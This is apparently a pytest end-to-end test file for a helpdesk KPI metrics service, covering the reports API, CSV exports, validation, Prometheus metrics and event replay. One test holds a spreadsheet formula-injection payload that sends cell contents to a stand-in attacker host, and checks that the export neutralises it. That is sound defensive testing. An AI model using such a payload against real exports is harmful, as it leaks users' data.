"""The scripted day (tests/kpi_stream.py) through the real broker into a running metrics
runtime on a real PostgreSQL: the reports API gives every hand-worked figure, as JSON and
CSV; QA and ESAT answers reach the per-agent report; bad input gets 422 naming the field;
and a rebuild (replaying the topics into empty tables, in place or into a fresh database)
gives identical figures."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiokafka import ConsumerRecord
from fastapi import FastAPI
from prometheus_client import CollectorRegistry, generate_latest
from sqlalchemy import func, select

from tests.conftest import Databases
from tests.e2e.conftest import counter
from tests.helpers import attach, eventually, offline_runtime, produce
from tests.kpi_stream import EXPECTED, EXPECTED_AGENTS, PERIOD, TICKETS, script, subset
from tierline_metrics.app import SPEC, create_app
from tierline_metrics.context import metrics_context
from tierline_metrics.events.rebuild import Replayed, _apply_batch, rebuild
from tierline_metrics.exposition.collectors import register
from tierline_metrics.models import inbox, ticket_log
from tierline_shared.bus.envelope import Envelope
from tierline_shared.bus.events import (
    AgentPresenceChanged,
    Event,
    SlaBreached,
    TicketAssigned,
    TicketEscalated,
    TicketOfferAnswered,
    TicketQueued,
)
from tierline_shared.bus.handlers import Delivered, Handlers
from tierline_shared.bus.topics import Topics
from tierline_shared.clock import FrozenClock
from tierline_shared.db import make_engine, make_sessionmaker
from tierline_shared.embedded import EmbeddedKafka
from tierline_shared.runtime import Runtime
from tierline_shared.settings import Settings
from tierline_shared.unit_of_work import UnitOfWork

pytestmark = [pytest.mark.db, pytest.mark.kafka]

PROMTOOL = Path(sys.executable).parent / "promtool"  # make install puts it there
WINDOW = {"from": PERIOD[0].isoformat(), "to": PERIOD[1].isoformat()}
KIND = {name: spec[0] for name, spec in TICKETS.items()}


def topic_for(topics: Topics, event: Event, ticket_types: dict[uuid.UUID, str]) -> str:
    if isinstance(event, AgentPresenceChanged):
        return topics.agents
    if isinstance(event, TicketAssigned | TicketQueued | TicketOfferAnswered):
        return topics.routing
    if isinstance(event, TicketEscalated | SlaBreached):
        return topics.sla
    return topics.for_type(ticket_types[event.ticket_id])  # type: ignore[attr-defined]


@dataclass
class Live:
    settings: Settings
    runtime: Runtime
    app: FastAPI
    databases: Databases
    envelopes: list[Envelope]
    key: str = ""

    def client(self, app: FastAPI | None = None) -> httpx.AsyncClient:
        return httpx.AsyncClient(transport=httpx.ASGITransport(app=app or self.app),
                                 base_url="http://metrics", headers={"X-API-Key": self.key})


async def inbox_count(runtime: Runtime) -> int:
    async with runtime.sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(inbox)) or 0)


@pytest.fixture(scope="module")
async def live(databases: Databases, kafka: EmbeddedKafka) -> AsyncIterator[Live]:
    settings = Settings(database_url=databases.create(), environment="test",
                        kafka_bootstrap_servers=kafka.bootstrap_servers,
                        topic_prefix=f"kpi{uuid.uuid4().hex[:10]}", consumer_retry_backoff_s=0.05)
    runtime = await Runtime.start(SPEC, settings, FrozenClock(PERIOD[1]))
    app = create_app(settings)
    key = attach(app, runtime)
    topics = Topics(settings.topic_prefix)
    events = script()
    types = {e.ticket_id: e.ticket_type for e in events  # type: ignore[attr-defined]
             if getattr(e, "ticket_type", None) and hasattr(e, "title")}
    envelopes = [Envelope.wrap(e, source="/test", time=datetime.now(UTC)) for e in events]
    by_topic: dict[str, list[Any]] = {}
    for env in envelopes + envelopes[:5]:  # the first five delivered twice
        by_topic.setdefault(topic_for(topics, env.event, types), []).append(
            (env.key, env.body(), env.headers()))
    for topic, messages in by_topic.items():
        await produce(kafka.bootstrap_servers, topic, messages)

    async def all_applied() -> bool:
        return await inbox_count(runtime) == len(envelopes)

    await eventually(all_applied, timeout=60, what="the scripted stream applied")
    try:
        yield Live(settings, runtime, app, databases, envelopes, key)
    finally:
        await runtime.stop()


async def kpis(client: httpx.AsyncClient, **params: str) -> dict[str, Any]:
    response = await client.get("/v1/reports/kpis", params={**WINDOW, **params})
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


async def test_the_reports_api_gives_every_hand_worked_figure(live: Live) -> None:
    async with live.client() as client:
        report = await kpis(client)
    for key, expected in EXPECTED.items():
        assert (subset(report[key], expected) if isinstance(expected, dict)
                else report[key]) == expected, key
    async with live.runtime.sessions() as session:  # duplicates were logged once
        logged = await session.scalar(select(func.count()).select_from(ticket_log))
    presence = sum(isinstance(e.event, AgentPresenceChanged) for e in live.envelopes)
    assert logged == len(live.envelopes) - presence


async def test_per_agent_figures_with_qa_and_esat(live: Live) -> None:
    async with live.client() as client:
        for knowledge, attitude, process in ((4, 5, 3), (2, 4, 5)):
            response = await client.post("/v1/qa/evaluations", json={
                "agent_id": "a1", "evaluator": "qa-lead", "knowledge": knowledge,
                "attitude": attitude, "process": process,
                "evaluated_at": "2026-11-02T18:00:00Z"})
            assert response.status_code == 201, response.text
        response = await client.post("/v1/esat/answers", json={
            "agent_id": "a1", "question": "workload", "score": 4,
            "answered_at": "2026-11-02T17:30:00Z"})
        assert response.status_code == 201, response.text
        page = (await client.get("/v1/qa/evaluations", params={"agent_id": "a1"})).json()
        listed = page["items"]
        assert page["total"] == 2
        first = (await client.get("/v1/qa/evaluations",
                                  params={"agent_id": "a1", "limit": 1, "offset": 1})).json()
        assert first["total"] == 2 and first["items"] == listed[1:]
        esat = (await client.get("/v1/esat/answers", params={"agent_id": "a1"})).json()
        assert esat["total"] == 1 and esat["items"][0]["score"] == 4
        groups = {g["key"]: g for g in (await kpis(client, group_by="agent"))["groups"]}
        teams = {g["key"]: g["output"]
                 for g in (await kpis(client, group_by="team"))["groups"]}
        table = (await client.get("/v1/reports/kpis",
                                  params={**WINDOW, "group_by": "agent", "format": "csv"}))
    assert len(listed) == 2
    assert teams == {"desk": 6, "network-ops": 1}
    for agent, expected in EXPECTED_AGENTS.items():
        assert subset(groups[agent], expected) == expected, agent
    assert groups["a1"]["qa"] == {"evaluations": 2, "knowledge": 3.0, "attitude": 4.5,
                                  "process": 4.0}
    assert groups["a1"]["esat"] == {"answers": 1, "mean": 4.0}
    assert groups["b1"]["qa"] is None
    assert table.headers["content-type"].startswith("text/csv")
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(table.text))}
    assert sorted(rows) == ["a1", "a2", "b1"]
    assert (rows["a1"]["output"], rows["a1"]["csat.rate"], rows["a1"]["qa.process"]) == (
        "4", "0.3333", "4.0")
    assert rows["b1"]["fcr.rate"] == ""


async def test_overall_csv_and_targets(live: Live) -> None:
    async with live.client() as client:
        overall = await client.get("/v1/reports/kpis", params={**WINDOW, "format": "csv"})
        targets = (await client.get("/v1/reports/targets", params=WINDOW)).json()
    [row] = list(csv.DictReader(io.StringIO(overall.text)))
    assert (row["fcr.rate"], row["fcr_by_channel.chat.rate"], row["volume.hour.13"]) == (
        "0.3333", "0.5", "2")
    judged = {r["target"]: (r["value"], r["met"]) for r in targets["targets"]}
    assert judged == {
        "deflection_rate": (0.1818, False), "fcr_rate": (0.3333, False),
        "csat_rate": (0.6, False), "tier1_resolution_p90_seconds": (21600, False),
        "resolution_p90_seconds": (21600, True), "tier1_escalation_rate": (0.1429, True),
        "escalation_rate": (0.2222, False)}


@pytest.mark.parametrize(("params", "field"), [
    ({"from": "2026-11-03T00:00:00Z", "to": "2026-11-02T00:00:00Z"}, "query.to"),
    ({"from": "2026-11-02T00:00:00", "to": "2026-11-03T00:00:00Z"}, "query.from"),
    ({"to": "2026-11-03T00:00:00Z"}, "query.from"),
    ({**WINDOW, "group_by": "customer"}, "query.group_by"),
    ({**WINDOW, "format": "xml"}, "query.format"),
])
async def test_bad_report_queries_get_422_naming_the_field(live: Live, params: dict[str, str],
                                                           field: str) -> None:
    async with live.client() as client:
        response = await client.get("/v1/reports/kpis", params=params)
    assert response.status_code == 422
    body = response.json()
    assert body["error"] == "validation_error"
    assert field in [problem["field"] for problem in body["detail"]], body


async def test_bad_qa_evaluations_get_422(live: Live) -> None:
    async with live.client() as client:
        response = await client.post("/v1/qa/evaluations", json={
            "agent_id": "a1", "evaluator": "x", "knowledge": 6, "attitude": 1, "process": 1,
            "evaluated_at": "2026-11-02T18:00:00Z"})
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["detail"]] == ["body.knowledge"]


async def test_export_gives_every_read_model_as_csv(live: Live) -> None:
    async with live.client() as client:
        tables = (await client.get("/v1/export")).json()["tables"]
        facts = await client.get("/v1/export/ticket_facts")
        missing = await client.get("/v1/export/outbox")
    assert {"ticket_facts", "ticket_log", "qa_evaluations", "esat_answers"} <= set(tables)
    rows = list(csv.DictReader(io.StringIO(facts.text)))
    assert len(rows) == len(TICKETS)
    assert sorted(r["deflected"] for r in rows).count("True") == 2
    assert missing.status_code == 404


async def test_exported_cells_a_spreadsheet_would_run_are_neutralised(live: Live) -> None:
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Ticket VPN down")'
    async with live.client() as client:
        response = await client.post("/v1/qa/evaluations", json={
            "agent_id": "b1", "evaluator": "@lead", "knowledge": 3, "attitude": 3,
            "process": 3, "comment": formula, "evaluated_at": "2026-11-02T18:00:00Z"})
        assert response.status_code == 201, response.text
        exported = await client.get("/v1/export/qa_evaluations")
    rows = [r for r in csv.DictReader(io.StringIO(exported.text)) if r["agent_id"] == "b1"]
    assert [(r["comment"], r["evaluator"]) for r in rows] == [("'" + formula, "'@lead")]
    assert all(r["knowledge"] == "3" for r in rows)


async def exposition(live: Live) -> str:
    async with live.runtime.sessions() as session:
        await metrics_context(live.runtime).counters.refresh(session)
    async with live.client() as client:
        return (await client.get("/metrics")).text


def promtool(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(PROMTOOL), *args], input=stdin, capture_output=True, text=True,
                          timeout=60, check=False)


async def test_the_exposition_passes_promtool_and_counts_the_day(live: Live) -> None:
    text = await exposition(live)
    checked = promtool("check", "metrics", stdin=text)
    assert (checked.returncode, checked.stdout + checked.stderr) == (0, "")

    def value(name: str, **labels: str) -> float:
        return counter(text, name, **labels)

    # P3 first responses: 600 5400 1800 300 2400 3600 s; resolutions 3600 21600 14400 1200
    # 5400 10800 s.
    assert value("tierline_first_response_seconds_count", priority="P3") == 6
    assert value("tierline_first_response_seconds_sum", priority="P3") == 14100
    assert value("tierline_first_response_seconds_bucket", priority="P3", le="1800.0") == 3
    assert value("tierline_resolution_seconds_count", priority="P3") == 6
    assert value("tierline_resolution_seconds_sum", priority="P3") == 57000
    assert value("tierline_resolution_seconds_bucket", priority="P3", le="3600.0") == 2
    assert value("tierline_resolution_seconds_bucket", priority="P3", le="+Inf") == 6
    assert value("tierline_tickets_resolved_total", priority="P2") == 1
    assert value("tierline_tickets_reopened_total", priority="P3") == 1
    # Resolutions only grow: T2 resolved, reopened and resolved again counts twice
    # (T1 T2 T2 T4 T5 T6 T11), so the reopen never reads as a counter reset.
    assert value("tierline_tickets_resolved_total", priority="P3") == 7
    # Nine tickets need an agent (all but the deflected T7 and T8); T10 was never assigned.
    assert value("tierline_tickets_created_total") == 11
    assert value("tierline_tickets_to_route_total") == 9
    assert value("tierline_tickets_assigned_total") == 8
    assert (value("tierline_tickets_deflected_total", channel="chat"),
            value("tierline_tickets_deflected_total", channel="portal")) == (1, 1)
    assert [value("tierline_csat_responses_total", score=str(s)) for s in range(1, 6)] == [
        0, 1, 1, 1, 2]
    assert [value("tierline_nps_responses_total", group=g)
            for g in ("promoter", "passive", "detractor")] == [2, 1, 1]
    # Open at the runtime's (frozen) midnight: T9 (P1, 8 h), T10 (P4, 7 h).
    assert value("tierline_backlog_tickets") == 2
    assert value("tierline_backlog_oldest_age_seconds", priority="P1") == 28800
    assert value("tierline_backlog_oldest_age_seconds", priority="P4") == 25200


async def test_labels_are_bounded_and_agents_only_when_enabled(live: Live) -> None:
    from prometheus_client.parser import text_string_to_metric_families

    text = await exposition(live)
    bounded = {"priority", "category", "channel", "clock", "kind", "trigger", "status", "score",
               "group", "le", "consumer", "topic", "type", "outcome", "method", "route",
               "service"}
    for family in text_string_to_metric_families(text):
        for sample in family.samples:
            assert set(sample.labels) <= bounded, (family.name, sample.labels)
    registry = CollectorRegistry()
    counters = register(registry, FrozenClock(PERIOD[1]), per_agent=True)
    async with live.runtime.sessions() as session:
        await counters.refresh(session)
    per_agent = generate_latest(registry).decode()
    assert [counter(per_agent, "tierline_agent_tickets_resolved_total", agent=a)
            for a in ("a1", "a2", "b1")] == [4, 2, 1]
    assert promtool("check", "metrics", stdin=per_agent).returncode == 0


async def test_a_rebuild_replays_the_topics_into_identical_figures(live: Live) -> None:
    async with live.client() as client:
        before = [await kpis(client, **g) for g in ({}, {"group_by": "agent"},
                                                    {"group_by": "channel"})]

    async def figures(database_url: str) -> list[dict[str, Any]]:
        runtime = offline_runtime(SPEC, database_url, FrozenClock(PERIOD[1]))
        await SPEC.on_start(runtime)  # the policy the reports read
        app = create_app(runtime.settings)
        key = attach(app, runtime)
        try:
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                         base_url="http://metrics",
                                         headers={"X-API-Key": key}) as client:
                return [await kpis(client, **g) for g in ({}, {"group_by": "agent"},
                                                          {"group_by": "channel"})]
        finally:
            await runtime.engine.dispose()

    def from_events(reports: list[dict[str, Any]]) -> list[dict[str, Any]]:
        """QA and ESAT answers came by the API, not the topics: a fresh database has none."""
        return [{**r, "groups": [{k: v for k, v in g.items() if k not in ("qa", "esat")}
                                 for g in r["groups"]]} if "groups" in r else r
                for r in reports]

    fresh = live.settings.model_copy(update={"database_url": live.databases.create()})
    outcome = await rebuild(fresh)
    assert (outcome.applied, outcome.failed) == (len(live.envelopes), [])
    assert outcome.skipped == 5  # the duplicates
    assert from_events(await figures(fresh.database_url)) == from_events(before)

    await live.runtime.stop()  # in place: stop metrics, rebuild, same figures
    outcome = await rebuild(live.settings)
    assert (outcome.applied, outcome.failed) == (len(live.envelopes), [])
    assert await figures(live.settings.database_url) == before


async def test_a_replayed_batch_with_a_failing_event_keeps_all_the_others(live: Live) -> None:
    """A rebuild applies a batch in one transaction; an event whose handler fails rolls the
    batch back and the batch is applied again event by event: only that one is left out."""
    url = live.databases.create()
    engine = make_engine(url, pool_size=2)
    real = SPEC.handlers(None)
    poison = live.envelopes[3]

    async def fails_on_poison(uow: UnitOfWork, run: Sequence[Delivered[Any]]) -> None:
        if any(d.envelope.id == poison.id for d in run):
            raise RuntimeError("this event cannot be applied")
        await real.apply(uow, run)

    handlers = Handlers().batch(real.classes, fails_on_poison)
    records = [ConsumerRecord("t", 0, n, 0, 0, env.key, env.body(), None, 0, 0,
                              env.headers()) for n, env in enumerate(live.envelopes)]
    outcome = Replayed()
    try:
        await _apply_batch(make_sessionmaker(engine), handlers, records, outcome)
        async with engine.connect() as conn:
            kept = set((await conn.execute(select(inbox.c.event_id))).scalars())
    finally:
        await engine.dispose()
    assert len(outcome.failed) == 1 and "t/0@3" in outcome.failed[0]
    assert outcome.applied == len(live.envelopes) - 1
    assert kept == {env.id for env in live.envelopes} - {poison.id}
